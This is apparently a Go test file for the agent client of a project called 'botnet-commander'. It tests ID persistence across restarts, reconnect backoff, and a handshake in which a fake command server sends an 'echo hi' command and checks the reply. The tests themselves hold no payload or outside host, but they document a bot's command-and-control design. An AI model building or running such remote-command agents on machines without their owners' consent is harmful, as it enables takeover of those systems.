package agentclient

import (
	"context"
	"encoding/json"
	"net"
	"os"
	"path/filepath"
	"testing"
	"time"

	"go.uber.org/zap"

	"github.com/rpcyber/botnet-commander/internal/protocol"
)

func TestLoadOrCreateIDPersistsAcrossRestarts(t *testing.T) {
	dir := t.TempDir()
	idPath := filepath.Join(dir, "sub", ".bot-agent.id")

	c1 := New(Config{ServerAddr: "unused:0", IDFilePath: idPath}, zap.NewNop())
	id1, err := c1.loadOrCreateID()
	if err != nil {
		t.Fatalf("loadOrCreateID: %v", err)
	}
	if id1 == "" {
		t.Fatal("expected a non-empty generated id")
	}

	c2 := New(Config{ServerAddr: "unused:0", IDFilePath: idPath}, zap.NewNop())
	id2, err := c2.loadOrCreateID()
	if err != nil {
		t.Fatalf("loadOrCreateID (second load): %v", err)
	}
	if id1 != id2 {
		t.Fatalf("got id2 = %q, want it to match persisted id1 = %q", id2, id1)
	}

	data, err := os.ReadFile(idPath)
	if err != nil {
		t.Fatalf("read id file: %v", err)
	}
	var f idFile
	if err := json.Unmarshal(data, &f); err != nil {
		t.Fatalf("id file is not valid JSON: %v", err)
	}
}

func TestLoadOrCreateIDAcceptsLegacyPlainTextFile(t *testing.T) {
	dir := t.TempDir()
	idPath := filepath.Join(dir, ".bot-agent.id")
	if err := os.WriteFile(idPath, []byte("legacy-plain-uuid"), 0o644); err != nil {
		t.Fatalf("seed legacy id file: %v", err)
	}

	c := New(Config{ServerAddr: "unused:0", IDFilePath: idPath}, zap.NewNop())
	id, err := c.loadOrCreateID()
	if err != nil {
		t.Fatalf("loadOrCreateID: %v", err)
	}
	if id != "legacy-plain-uuid" {
		t.Fatalf("got id = %q, want legacy-plain-uuid", id)
	}
}

func TestReconnectBackoffHoldsAtMaxReconn(t *testing.T) {
	got := make([]time.Duration, 6)
	for n := 1; n <= 6; n++ {
		got[n-1] = reconnectBackoff(n, 3)
	}
	want := []time.Duration{
		2 * time.Second, 4 * time.Second, 8 * time.Second,
		8 * time.Second, 8 * time.Second, 8 * time.Second,
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("attempt %d: got backoff %v, want %v (full sequence %v)", i+1, got[i], want[i], got)
		}
	}
}

// fakeCommander plays the server side of one handshake plus a single
// exeCommand round trip over a net.Pipe, so the client's session loop can be
// exercised without a real listener.
func fakeCommander(t *testing.T, conn net.Conn) {
	t.Helper()
	framer := protocol.New(conn)

	frames, err := framer.ReadFrames(2 * time.Second)
	if err != nil {
		t.Errorf("fakeCommander: read botHostInfo: %v", err)
		return
	}
	if len(frames) != 1 || frames[0].Kind != protocol.KindBotHostInfo {
		t.Errorf("fakeCommander: got %+v, want botHostInfo", frames)
		return
	}

	if err := framer.WriteFrame(protocol.NewBotHostInfoReply(), 2*time.Second); err != nil {
		t.Errorf("fakeCommander: write botHostInfoReply: %v", err)
		return
	}

	if err := framer.WriteFrame(protocol.NewExeCommand("echo hi", 5, 42), 2*time.Second); err != nil {
		t.Errorf("fakeCommander: write exeCommand: %v", err)
		return
	}

	frames, err = framer.ReadFrames(2 * time.Second)
	if err != nil {
		t.Errorf("fakeCommander: read exeCommandReply: %v", err)
		return
	}
	if len(frames) != 1 || frames[0].Kind != protocol.KindExeCommandReply {
		t.Errorf("fakeCommander: got %+v, want exeCommandReply", frames)
		return
	}
	if frames[0].ExeCommandReply.CmdID != 42 {
		t.Errorf("got cmd_id %d, want 42", frames[0].ExeCommandReply.CmdID)
	}
}

func TestSessionHandshakeAndCommandRoundTrip(t *testing.T) {
	serverConn, clientConn := net.Pipe()
	defer serverConn.Close()

	commanderDone := make(chan struct{})
	go func() {
		defer close(commanderDone)
		fakeCommander(t, serverConn)
	}()

	c := New(Config{ServerAddr: "unused:0", Hostname: "test-host", OS: protocol.OSLinux}, zap.NewNop())
	c.id = "agent-under-test"

	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel()

	sessionErr := make(chan error, 1)
	go func() { sessionErr <- c.session(ctx, clientConn) }()

	select {
	case <-commanderDone:
	case <-time.After(2 * time.Second):
		t.Fatal("fakeCommander did not complete in time")
	}

	cancel()
	serverConn.Close()

	select {
	case <-sessionErr:
	case <-time.After(2 * time.Second):
		t.Fatal("session did not return after connection close")
	}
}
